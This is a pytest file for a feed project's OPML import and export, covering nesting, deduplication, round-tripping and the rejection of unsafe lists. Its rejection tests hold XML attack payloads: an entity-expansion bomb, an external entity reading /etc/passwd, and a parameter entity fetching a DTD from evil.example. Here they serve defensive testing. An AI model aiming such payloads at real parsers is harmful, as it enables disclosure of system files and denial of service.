"""Subscription lists of other readers, in and out."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from etl.errors import RegistryError
from etl.records import Source, SourceKind
from etl.sources import opml

NOW = datetime(2022, 7, 6, 9, 0, tzinfo=UTC)


def listed(*outlines: str) -> bytes:
    return f"<opml version='1.0'><head/><body>{''.join(outlines)}</body></opml>".encode()


def test_outlines_become_sources_however_deep() -> None:
    body = listed(
        '<outline text="World">',
        '<outline type="rss" title="The &amp; Courier" xmlUrl="https://a.example/feed?x=1&amp;y=2"/>',
        '<outline text="Deeper"><outline text="Вісник" xmlUrl="http://visnyk.example/" language="uk-UA"/></outline>',
        "</outline>",
    )
    first, second = opml.read(body)
    assert first == Source(
        name="the-courier", kind=SourceKind.FEED, url="https://a.example/feed?x=1&y=2", outlet="The & Courier"
    )
    assert (second.name, second.outlet, second.language_code) == ("visnyk-example", "Вісник", "uk")


def test_names_are_told_apart_and_addresses_taken_once() -> None:
    same = [f'<outline text="News" xmlUrl="http://a.example/{n}"/>' for n in (1, 2, 2, 3)]
    assert [s.name for s in opml.read(listed(*same), taken=["news"])] == ["news-2", "news-3", "news-4"]


def test_outlines_without_a_usable_address_are_passed_over() -> None:
    body = listed(
        '<outline text="a" xmlUrl="file:///etc/passwd"/>',
        '<outline text="b"/>',
        '<outline text="c" xmlurl="http://c.example/"/>',
    )
    assert [s.url for s in opml.read(body)] == ["http://c.example/"]


LINE = b'<opml><body><outline text="&b;" xmlUrl="http://a.example/"/></body></opml>'
BOMB = b'<!DOCTYPE opml [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>' + LINE
OUTSIDE = b'<!DOCTYPE opml [<!ENTITY a SYSTEM "file:///etc/passwd">]><opml><body><outline text="&a;"/></body></opml>'
PARAMETER = b'<!DOCTYPE opml [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><opml/>'


@pytest.mark.parametrize(
    ("body", "told"),
    [
        (BOMB, "declares entities"),
        (OUTSIDE, "declares entities"),
        (PARAMETER, "declares entities"),
        (BOMB.decode().encode("utf-16"), "declares entities"),
        (b"", "no XML"),
        (b"<opml><body>", "no XML"),
        (b"not xml at all", "no XML"),
        (b"<opml/>", "No outline"),
        (b"<opml>" + b" " * 10_000_001, "larger than"),
    ],
)
def test_a_list_that_cannot_be_used(body: bytes, told: str) -> None:
    with pytest.raises(RegistryError, match=told) as wrong:
        opml.read(body, name="subscriptions.opml")
    assert "subscriptions.opml" in str(wrong.value)


def test_what_goes_out_comes_back() -> None:
    whole = Source(
        name="post-uk",
        kind=SourceKind.FEED,
        url="http://a.example/?x=1&y='2'",
        outlet='A "B" <C>',
        owner="Harbour & Sons",
        country_code="GB",
        language_code="en",
        home_region="GB.ENG",
        time_zone="Europe/London",
        tier=1,
        terms="with thanks\nfor all",
        poll_minutes=0,
        is_enabled=False,
    )
    kept = [
        whole,
        Source(name="visnyk", kind=SourceKind.FEED, url="http://visnyk.example/", outlet="Вісник", language_code="uk"),
        Source(name="unknown", kind=SourceKind.FEED, url="http://unknown.example/", outlet=None),
        Source(name="map", kind=SourceKind.SITEMAP, url="http://b.example/map.xml", outlet="B"),
        Source(name="list", kind=SourceKind.PAGES, url="http://b.example/", outlet="B", link_selector="h2 > a[href]"),
    ]
    left = [
        Source(name="archive", kind=SourceKind.FILES, url="archive", outlet=None),
        Source(name="crawl", kind=SourceKind.WARC, url="crawl", outlet=None),
    ]
    body = opml.write([*left, *kept], at=NOW)
    assert opml.read(body) == kept
    assert b"Wed, 06 Jul 2022 09:00:00 GMT" in body


def test_a_list_from_elsewhere_cannot_open_private_addresses_nor_say_what_is_not_allowed() -> None:
    opened = Source(name="a", kind=SourceKind.FEED, url="http://a.example/", outlet="A", allow_private=True)
    [source] = opml.read(opml.write([opened], at=NOW).replace(b"<outline ", b'<outline dateline:allow_private="true" '))
    assert not source.allow_private
    wrong = 'dateline:kind="warc" dateline:tier="9" dateline:time_zone="Mars" dateline:name="A B"'
    [source] = opml.read(
        listed(f'<outline text="News" xmlUrl="http://a.example/" language="xq" dateline:link_selector="a" {wrong}/>')
    )
    assert source == Source(name="news", kind=SourceKind.FEED, url="http://a.example/", outlet="News")


def test_plain_links_of_other_readers_are_no_feeds() -> None:
    with pytest.raises(RegistryError, match="No outline"):
        opml.read(listed('<outline type="link" text="a" url="http://a.example/"/>'))
